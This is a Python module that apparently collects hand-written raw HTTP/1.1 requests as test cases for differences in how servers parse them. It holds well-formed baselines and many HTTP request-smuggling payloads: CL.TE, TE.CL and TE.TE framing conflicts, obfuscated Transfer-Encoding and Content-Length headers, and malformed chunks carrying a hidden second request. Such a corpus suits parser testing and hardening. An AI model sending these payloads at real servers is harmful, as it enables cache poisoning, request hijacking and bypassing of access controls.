"""Requests that two servers may read in two ways, written by hand.

``@T@`` is the case's own target, ``@S@`` that of a request an attacker hides behind it.
"""

from collections.abc import Mapping

HOST = b"Host: shop.example\r\n"
GET = b"GET @T@ HTTP/1.1\r\n" + HOST
POST = b"POST @T@ HTTP/1.1\r\n" + HOST
POST_1_0 = POST.replace(b"1.1", b"1.0")
HIDDEN = b"GET @S@ HTTP/1.1\r\n" + HOST + b"\r\n"
OWN, BEHIND = b"/occ/v2/electronics/products/", b"/occ/v2/electronics/smuggled/"
HIDDEN_BYTES = len(HIDDEN) - len(b"@S@") + len(BEHIND) + len(b"c00000")
"""Of `HIDDEN` as it is sent."""
CHUNKED = b"Transfer-Encoding: chunked\r\n"
END = b"0\r\n\r\n"
BODY = b"3\r\nabc\r\n" + END


def length(value: bytes | int) -> bytes:
    """The header line."""
    shown = value if isinstance(value, bytes) else b"%d" % value
    return b"Content-Length: " + shown + b"\r\n"


def coding(value: bytes) -> bytes:
    """The header line."""
    return b"Transfer-Encoding: " + value + b"\r\n"


SOUND: Mapping[str, bytes] = {
    "a GET": GET + b"\r\n",
    "a GET in a session": GET + b"x-session-id: s1\r\n\r\n",
    "a HEAD": b"HEAD @T@ HTTP/1.1\r\n" + HOST + b"\r\n",
    "a DELETE": b"DELETE @T@ HTTP/1.1\r\n" + HOST + b"\r\n",
    "a POST with a length": POST + length(3) + b"\r\nabc",
    "a POST of nothing": POST + length(0) + b"\r\n",
    "a length with leading zeros": POST + length(b"003") + b"\r\nabc",
    "a POST in chunks": POST + CHUNKED + b"\r\n" + BODY,
    "chunks with extensions": POST + CHUNKED + b"\r\n" + b'3;a=b;c="d"\r\nabc\r\n' + END,
    "chunks with leading zeros": POST + CHUNKED + b"\r\n0003\r\nabc\r\n000\r\n\r\n",
    "chunks with a trailer": POST + CHUNKED + b"\r\n3\r\nabc\r\n0\r\nX-Sum: 1\r\n\r\n",
    "a coding in capitals": POST + coding(b"CHUNKED") + b"\r\n" + BODY,
    "two requests in a row": GET + b"\r\n" + HIDDEN,
    "a POST, then a GET": POST + length(3) + b"\r\nabc" + HIDDEN,
    "chunks, then a GET": POST + CHUNKED + b"\r\n" + BODY + HIDDEN,
    "a GET with a body": GET + length(3) + b"\r\nabc" + HIDDEN,
    "a body that looks like a request": POST + length(HIDDEN_BYTES) + b"\r\n" + HIDDEN,
    "an empty line before": b"\r\n" + GET + b"\r\n",
    "a value in latin-1": GET + b"X: Zo\xeb\r\n\r\n",
    "an empty value": GET + b"X:\r\n\r\n",
    "HTTP/1.0 with a length": POST_1_0 + length(3) + b"\r\nabc",
}
"""Beyond doubt: whoever refuses these serves no shop."""

FRAMING: Mapping[str, bytes] = {
    "CL.TE": POST + length(4) + CHUNKED + b"\r\n" + END + HIDDEN,
    "TE.CL": POST + CHUNKED + length(4) + b"\r\n%x\r\n" % HIDDEN_BYTES + HIDDEN + b"\r\n" + END,
    "CL 0 with chunked": POST + length(0) + CHUNKED + b"\r\n" + END + HIDDEN,
    "TE.TE": POST + CHUNKED + coding(b"x") + length(3) + b"\r\n" + BODY,
    "TE twice": POST + CHUNKED + CHUNKED + b"\r\n" + BODY,
    "TE chunked, chunked": POST + coding(b"chunked, chunked") + b"\r\n" + BODY,
    "TE identity": POST + coding(b"identity") + length(3) + b"\r\nabc",
    "TE identity, chunked": POST + coding(b"identity, chunked") + b"\r\n" + BODY,
    "TE gzip, chunked": POST + coding(b"gzip, chunked") + b"\r\n" + BODY,
    "TE chunked, gzip": POST + coding(b"chunked, gzip") + b"\r\n" + BODY,
    "TE chunked;q=1": POST + coding(b"chunked;q=1") + b"\r\n" + BODY,
    "TE quoted": POST + coding(b'"chunked"') + b"\r\n" + BODY,
    "TE xchunked": POST + coding(b"xchunked") + length(3) + b"\r\n" + BODY,
    "TE with a comma before": POST + coding(b", chunked") + b"\r\n" + BODY,
    "TE with a comma after": POST + coding(b"chunked,") + b"\r\n" + BODY,
    "TE empty": POST + coding(b"") + length(3) + b"\r\nabc",
    "TE after a vertical tab": POST + coding(b"\x0bchunked") + length(3) + b"\r\n" + BODY,
    "TE before a NUL": POST + coding(b"chunked\x00") + length(3) + b"\r\n" + BODY,
    "TE after a form feed": POST + coding(b"\x0cchunked") + b"\r\n" + BODY,
    "TE behind a tab": POST + b"Transfer-Encoding:\tchunked\r\n\r\n" + BODY + HIDDEN,
    "TE with a space in its name": POST + b"Transfer Encoding: chunked\r\n\r\n" + BODY,
    "TE with an underscore": POST + b"Transfer_Encoding: chunked\r\n" + length(3) + b"\r\nabc",
    "TE before the colon a space": POST + b"Transfer-Encoding : chunked\r\n\r\n" + BODY,
    "TE before the colon a tab": POST + b"Transfer-Encoding\t: chunked\r\n\r\n" + BODY,
    "TE before it a space": POST + b" Transfer-Encoding: chunked\r\n\r\n" + BODY,
    "TE folded": POST + b"Transfer-Encoding:\r\n chunked\r\n\r\n" + BODY,
    "TE split by a bare CR": POST
    + b"X: a\rTransfer-Encoding: chunked\r\n"
    + length(3)
    + b"\r\nabc",
    "TE split by a bare LF": POST
    + b"X: a\nTransfer-Encoding: chunked\r\n"
    + length(3)
    + b"\r\nabc",
    "TE with a dotless i": POST + "Transfer-Encod\u0131ng: chunked\r\n\r\n".encode() + BODY,
    "TE with a Kelvin sign": POST + coding("chun\u212aed".encode()) + length(3) + b"\r\nabc",
    "TE for HTTP/1.0": POST_1_0 + CHUNKED + b"\r\n" + BODY,
    "TE and CL for HTTP/1.0": POST_1_0 + CHUNKED + length(3) + b"\r\n" + BODY,
    "TE for HTTP/1.0, kept alive": POST_1_0
    + CHUNKED
    + b"Connection: keep-alive\r\n\r\n"
    + BODY
    + HIDDEN,
    "TE with a letter of its name folded": POST + b"Transfer-\r\n Encoding: chunked\r\n\r\n" + BODY,
    "TE before a form feed": POST + coding(b"chunked\x0c") + length(3) + b"\r\n" + BODY,
    "TE after a line separator": POST + coding(b"\xc2\x85chunked") + length(3) + b"\r\n" + BODY,
    "TE after a no-break space": POST + coding(b"\xa0chunked") + length(3) + b"\r\n" + BODY,
    "TE without a space": POST + b"Transfer-Encoding:chunked\r\n\r\n" + BODY + HIDDEN,
    "TE twice, the first empty": POST + coding(b"") + CHUNKED + b"\r\n" + BODY + HIDDEN,
    "TE identity, then chunked": POST + coding(b"identity") + CHUNKED + length(3) + b"\r\n" + BODY,
    "TE chunked, then identity": POST + CHUNKED + coding(b"identity") + length(3) + b"\r\n" + BODY,
    "TE chunked, cow": POST + CHUNKED + coding(b"cow") + b"\r\n" + BODY,
    "TE on a GET": GET + CHUNKED + b"\r\n" + BODY + HIDDEN,
    "TE and CL on a GET": GET + length(5) + CHUNKED + b"\r\n" + END + HIDDEN,
    "TE on a HEAD": b"HEAD @T@ HTTP/1.1\r\n" + HOST + CHUNKED + b"\r\n" + BODY + HIDDEN,
    "TE behind a bare CR": POST + b"\rTransfer-Encoding: chunked\r\n\r\n" + BODY,
    "TE ended by a bare CR": POST + b"Transfer-Encoding: chunked\r" + length(3) + b"\r\nabc",
    "TE ended by a bare LF": POST + b"Transfer-Encoding: chunked\n" + length(3) + b"\r\nabc",
    "TE behind a NUL in its name": POST + b"Transfer-Encoding\x00: chunked\r\n\r\n" + BODY,
    "CL twice, 0 and more": POST + length(0) + length(HIDDEN_BYTES) + b"\r\n" + HIDDEN,
    "CL beyond 63 bits": POST + length(b"9223372036854775808") + b"\r\nabc" + HIDDEN,
    "CL of 5,000 digits": POST + length(b"0" * 4_999 + b"3") + b"\r\nabc",
    "CL with an exponent": POST + length(b"3e0") + b"\r\nabc",
    "CL before a tab": POST + length(b"3\t") + b"\r\nabc",
    "CL before a vertical tab": POST + length(b"3\x0b") + b"\r\nabc",
    "CL ended by a bare CR": POST + b"Content-Length: 3\r\r\n\r\nabc",
    "CL for HTTP/1.0, kept alive": POST_1_0
    + length(3)
    + b"Connection: keep-alive\r\n\r\nabc"
    + HIDDEN,
    "CL twice for HTTP/1.0, kept alive": POST_1_0
    + length(0)
    + length(HIDDEN_BYTES)
    + b"Connection: keep-alive\r\n\r\n"
    + HIDDEN,
    "CL twice, different": POST + length(3) + length(4) + b"\r\nabcd",
    "CL twice, the same": POST + length(3) + length(3) + b"\r\nabc",
    "CL in a list": POST + length(b"3, 3") + b"\r\nabc",
    "CL in a list, different": POST + length(b"3, 4") + b"\r\nabcd",
    "CL signed": POST + length(b"+3") + b"\r\nabc",
    "CL negative": POST + length(b"-1") + b"\r\nabc",
    "CL minus zero": POST + length(b"-0") + b"\r\n" + HIDDEN,
    "CL hexadecimal": POST + length(b"0x3") + b"\r\nabc",
    "CL with an underscore": POST + length(b"1_0") + b"\r\nabcdefghij",
    "CL with a point": POST + length(b"3.0") + b"\r\nabc",
    "CL in two words": POST + length(b"3 4") + b"\r\nabcd",
    "CL empty": POST + length(b"") + b"\r\n" + HIDDEN,
    "CL of other digits": POST + length("٣".encode()) + b"\r\nabc",
    "CL beyond 64 bits": POST + length(b"18446744073709551619") + b"\r\nabc",
    "CL before the colon a space": POST + b"Content-Length : 3\r\n\r\nabc" + HIDDEN,
    "CL before a NUL": POST + length(b"3\x00") + b"\r\nabc",
    "CL behind a NUL in the name": POST + b"\x00Content-Length: 3\r\n\r\nabc",
    "CL folded": POST + b"Content-Length:\r\n 3\r\n\r\nabc",
    "CL with an underscore in its name": POST + b"Content_Length: 40\r\n\r\n" + HIDDEN,
    "CL named by Connection": POST + length(3) + b"Connection: content-length\r\n\r\nabc",
    "TE named by Connection": POST + CHUNKED + b"Connection: transfer-encoding\r\n\r\n" + BODY,
    "Host named by Connection": GET + b"Connection: host\r\n\r\n",
}

CHUNKS: Mapping[str, bytes] = {
    name: POST + CHUNKED + b"\r\n" + body
    for name, body in {
        "chunk size with junk": b"3x\r\nabc\r\n" + END,
        "chunk size hexadecimal by name": b"0x3\r\nabc\r\n" + END,
        "chunk size signed": b"+3\r\nabc\r\n" + END,
        "chunk size negative": b"-3\r\nabc\r\n" + END,
        "chunk size with an underscore": b"1_0\r\n" + b"a" * 16 + b"\r\n" + END,
        "chunk size after a space": b" 3\r\nabc\r\n" + END,
        "chunk size before a space": b"3 \r\nabc\r\n" + END,
        "chunk size before a tab": b"3\t\r\nabc\r\n" + END,
        "chunk size missing": b"\r\nabc\r\n" + END,
        "chunk size beyond 64 bits": b"10000000000000003\r\nabc\r\n" + END,
        "chunk size of 20 Fs": b"F" * 20 + b"\r\nabc\r\n" + END,
        "chunk size before a NUL": b"3\x00\r\nabc\r\n" + END,
        "chunk line ended by LF": b"3\nabc\r\n" + END,
        "chunk data ended by LF": b"3\r\nabc\n" + END,
        "chunk data ended by CR": b"3\r\nabc\r" + END,
        "chunk data too long": b"3\r\nabcd\r\n" + END,
        "chunk data without end": b"3\r\nabc" + END,
        "chunk data ended by two other bytes": b"3\r\nabcXX" + END,
        "chunk extension with a bare LF": b"3;a\nb\r\nabc\r\n" + END,
        "chunk extension with a bare CR": b"3;a\rb\r\nabc\r\n" + END,
        "chunk extension that hides a size": b"3;\n5c\r\nabc\r\n" + END + HIDDEN,
        "chunk extension with a NUL": b"3;\x00\r\nabc\r\n" + END,
        "chunk extension of 20,000 bytes": b"3;a=" + b"b" * 20_000 + b"\r\nabc\r\n" + END,
        "chunk extension quoted, with CRLF": b'3;a="\r\n5"\r\nabc\r\n' + END + HIDDEN,
        "chunk extension without a name": b"3;\r\nabc\r\n" + END + HIDDEN,
        "chunk extension after a bare CR": b"3\r;a\r\nabc\r\n" + END,
        "chunk size that wraps 32 bits": b"100000003\r\nabc\r\n" + END + HIDDEN,
        "chunk size of 5,000 zeros": b"0" * 5_000 + b"3\r\nabc\r\n" + END,
        "chunk size after the data's end": b"3\r\nabc0\r\n\r\n" + HIDDEN,
        "last chunk negative": b"3\r\nabc\r\n-0\r\n\r\n" + HIDDEN,
        "last chunk with an extension": b"3\r\nabc\r\n0;a=b\r\n\r\n" + HIDDEN,
        "trailer with a host": b"0\r\nHost: evil.example\r\n\r\n" + HIDDEN,
        "trailer with a NUL": b"0\r\nX: a\x00b\r\n\r\n" + HIDDEN,
        "trailer ended by a bare LF": b"0\r\nX: a\n\r\n" + HIDDEN,
        "trailer that never ends": b"0\r\nX: a\r\n" + HIDDEN,
        "trailer of 40,000 bytes": b"0\r\nX: " + b"x" * 40_000 + b"\r\n\r\n" + HIDDEN,
        "last chunk ended by LF": b"3\r\nabc\r\n0\n\r\n",
        "end of the body by LF": b"3\r\nabc\r\n0\r\n\n" + HIDDEN,
        "trailer with a space before the colon": b"0\r\nX : 1\r\n\r\n",
        "trailer with a length": b"0\r\nContent-Length: 40\r\n\r\n" + HIDDEN,
        "trailer with a coding": b"0\r\nTransfer-Encoding: chunked\r\n\r\n" + HIDDEN,
        "trailer folded": b"0\r\nX: a\r\n b\r\n\r\n",
        "trailer without a colon": b"0\r\nGET @S@ HTTP/1.1\r\n\r\n",
    }.items()
}

FORMS: Mapping[str, bytes] = {
    "lines ended by LF": b"GET @T@ HTTP/1.1\nHost: shop.example\n\n",
    "one line ended by LF": GET + b"X: a\nY: b\r\n\r\n",
    "head ended by LF": GET + b"X: a\r\n\n" + HIDDEN,
    "lines ended by CR": b"GET @T@ HTTP/1.1\rHost: shop.example\r\r",
    "CR CR LF": b"GET @T@ HTTP/1.1\r\r\nHost: shop.example\r\r\n\r\r\n",
    "folded value": GET + b"X: a\r\n b\r\n\r\n",
    "folded first line": b"GET @T@ HTTP/1.1\r\n X: a\r\n" + HOST + b"\r\n",
    "space before the colon": GET + b"X : a\r\n\r\n",
    "no colon": GET + b"X\r\n\r\n",
    "no name": GET + b": a\r\n\r\n",
    "NUL in a value": GET + b"X: a\x00b\r\n\r\n",
    "NUL in a name": GET + b"X\x00Y: a\r\n\r\n",
    "NUL in the target": b"GET @T@\x00 HTTP/1.1\r\n" + HOST + b"\r\n",
    "control in a value": GET + b"X: a\x01b\r\n\r\n",
    "DEL in a value": GET + b"X: a\x7fb\r\n\r\n",
    "brackets in a name": GET + b"X[]: a\r\n\r\n",
    "latin-1 in a name": GET + b"X\xeb: a\r\n\r\n",
    "no host": b"GET @T@ HTTP/1.1\r\n\r\n",
    "two hosts": GET + HOST + b"\r\n",
    "two hosts, different": GET + b"Host: evil.example\r\n\r\n",
    "absolute form": b"GET http://shop.example@T@ HTTP/1.1\r\n" + HOST + b"\r\n",
    "absolute form of another": b"GET http://evil.example@T@ HTTP/1.1\r\n" + HOST + b"\r\n",
    "scheme without authority": b"GET http:@T@ HTTP/1.1\r\n" + HOST + b"\r\n",
    "authority form": b"GET shop.example:80 HTTP/1.1\r\n" + HOST + b"\r\n",
    "a tunnel": b"CONNECT shop.example:80 HTTP/1.1\r\n" + HOST + b"\r\n" + HIDDEN,
    "a tunnel to a path": b"CONNECT @T@ HTTP/1.1\r\n" + HOST + b"\r\n" + HIDDEN,
    "a trace": b"TRACE @T@ HTTP/1.1\r\n" + HOST + b"\r\n",
    "asterisk form": b"OPTIONS * HTTP/1.1\r\n" + HOST + b"\r\n",
    "asterisk for a GET": b"GET * HTTP/1.1\r\n" + HOST + b"\r\n",
    "a fragment": b"GET @T@#x HTTP/1.1\r\n" + HOST + b"\r\n",
    "a space in the target": b"GET @T@ x HTTP/1.1\r\n" + HOST + b"\r\n",
    "a tab for a space": b"GET\t@T@\tHTTP/1.1\r\n" + HOST + b"\r\n",
    "two spaces": b"GET  @T@  HTTP/1.1\r\n" + HOST + b"\r\n",
    "a space before the method": b" GET @T@ HTTP/1.1\r\n" + HOST + b"\r\n",
    "a space after the version": b"GET @T@ HTTP/1.1 \r\n" + HOST + b"\r\n",
    "no version": b"GET @T@\r\n" + HOST + b"\r\n",
    "HTTP/0.9": b"GET @T@ HTTP/0.9\r\n" + HOST + b"\r\n",
    "HTTP/1.2": b"GET @T@ HTTP/1.2\r\n" + HOST + b"\r\n",
    "HTTP/1.10": b"GET @T@ HTTP/1.10\r\n" + HOST + b"\r\n",
    "HTTP/2.0": b"GET @T@ HTTP/2.0\r\n" + HOST + b"\r\n",
    "HTTP/3": b"GET @T@ HTTP/3\r\n" + HOST + b"\r\n",
    "a version in small letters": b"GET @T@ http/1.1\r\n" + HOST + b"\r\n",
    "ICY": b"SOURCE @T@ ICE/1.0\r\n" + HOST + b"\r\n",
    "RTSP": b"GET @T@ RTSP/1.0\r\n" + HOST + b"\r\n",
    "a preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "an unknown method": b"BREW @T@ HTTP/1.1\r\n" + HOST + b"\r\n",
    "a method in small letters": b"get @T@ HTTP/1.1\r\n" + HOST + b"\r\n",
    "a method with brackets": b"GE(T) @T@ HTTP/1.1\r\n" + HOST + b"\r\n",
    "a method of 4,000 letters": b"A" * 4_000 + b" @T@ HTTP/1.1\r\n" + HOST + b"\r\n",
    "a header of 40,000 bytes": GET + b"X: " + b"x" * 40_000 + b"\r\n\r\n",
    "600 headers": GET + b"X: 1\r\n" * 600 + b"\r\n",
    "a target of 40,000 bytes": b"GET @T@" + b"x" * 40_000 + b" HTTP/1.1\r\n" + HOST + b"\r\n",
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(64),
    "three empty lines before": b"\r\n\r\n\r\n" + GET + b"\r\n",
    "Expect 100": POST + length(3) + b"Expect: 100-continue\r\n\r\nabc" + HIDDEN,
    "Expect something else": POST + length(3) + b"Expect: tea\r\n\r\nabc" + HIDDEN,
    "Expect without a body": GET + b"Expect: 100-continue\r\n\r\n" + HIDDEN,
    "Upgrade to h2c": GET
    + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
    + b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"
    + b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "Upgrade to h2c with a body": POST
    + length(3)
    + b"Connection: Upgrade\r\nUpgrade: h2c\r\n\r\nabc"
    + HIDDEN,
    "Upgrade to h2c, named by nobody": GET + b"Upgrade: h2c\r\n\r\n" + HIDDEN,
    "Upgrade to TLS": GET + b"Connection: Upgrade\r\nUpgrade: TLS/1.2, HTTP/1.1\r\n\r\n" + HIDDEN,
    "a preface of HTTP/2, and frames": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    b"\x00\x00\x00\x04\x00\x00\x00\x00\x00" + HIDDEN,
    "Trailer announced": POST
    + CHUNKED
    + b"Trailer: Content-Length\r\nTE: trailers\r\n\r\n"
    + b"3\r\nabc\r\n0\r\nContent-Length: 40\r\n\r\n"
    + HIDDEN,
    "Expect with chunks": POST + CHUNKED + b"Expect: 100-continue\r\n\r\n" + BODY + HIDDEN,
    "Expect twice": POST + length(3) + b"Expect: 100-continue\r\n" * 2 + b"\r\nabc" + HIDDEN,
    "a bare CR in the target": b"GET @T@\rX HTTP/1.1\r\n" + HOST + b"\r\n",
    "a bare LF in the target": b"GET @T@\nX: HTTP/1.1\r\n" + HOST + b"\r\n",
    "a method with CRLF in front of it": b"X\r\nGET @T@ HTTP/1.1\r\n" + HOST + b"\r\n",
    "a first header folded": b"GET @T@ HTTP/1.1\r\n\tX: a\r\n" + HOST + b"\r\n",
    "a folded value by a tab": GET + b"X: a\r\n\tb\r\n\r\n" + HIDDEN,
    "a folded end of the head": GET + b"X: a\r\n \r\n" + HIDDEN,
    "Upgrade to websocket": GET
    + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    + b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
    + HIDDEN,
    "Upgrade with chunks": POST
    + CHUNKED
    + b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
    + BODY
    + HIDDEN,
    "closed by the first": GET + b"Connection: close\r\n\r\n" + HIDDEN,
    "closed by HTTP/1.0": GET.replace(b"1.1", b"1.0") + b"\r\n" + HIDDEN,
    "half a request": GET + b"X: a",
    "half a body": POST + length(1_000) + b"\r\nabc",
    "half a chunk": POST + CHUNKED + b"\r\n10\r\nabc",
    "junk after a request": GET + b"\r\n\x00\x01\x02",
    "junk after a body": POST + length(3) + b"\r\nabcdef" + HIDDEN,
}

BY_HAND: Mapping[str, bytes] = {**SOUND, **FRAMING, **CHUNKS, **FORMS}
